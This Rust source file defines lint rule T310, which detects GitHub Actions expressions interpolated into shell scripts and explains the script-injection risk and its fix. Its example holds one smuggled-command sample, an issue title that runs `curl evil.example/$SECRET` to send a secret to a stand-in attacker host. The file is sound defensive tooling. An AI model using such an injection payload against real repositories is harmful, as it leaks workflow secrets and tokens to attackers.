//! T310: an expression is part of a script's text, and the shell runs its value as commands.

use crate::lint::examples::written_in_rust;
use crate::lint::rule::{Finds, Rule, Severity, Subjects};

/// The rule.
pub static RULE: Rule = Rule {
    code: "T310",
    name: "untrusted-text-in-script",
    about: Subjects::Trust,
    severity: Severity::Error,
    summary: "an expression is part of a script's text, and the shell runs its value as commands",
    why: "GitHub inserts the value of an expression into the script before the shell reads it. The title of an \
        issue, the name of a branch, the text of a comment: its author writes a part of the script, which runs \
        with the job's token and its secrets. A variable is only a value to the shell, whatever it contains.",
    happens: "Somebody opens an issue with the title `\"; curl evil.example/$SECRET; \"`. The job that greets \
        new issues runs it.",
    fix: "Pass the value as a variable of the step, and quote it in the script: `.env(\"TITLE\", \
        github::conversation::issue_title())`, and `\"$TITLE\"` in the script. Every expression in a script is \
        refused, harmless ones too, and so is one in the `script` of an action: nobody has to tell the two kinds \
        apart.",
    source: "https://docs.github.com/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks",
    example: written_in_rust!(untrusted_text_in_script),
    gotcha: None,
    finds: Finds::Refused(concat!("has `$", "{{ github.event.issue.title }}` in its script")),
};
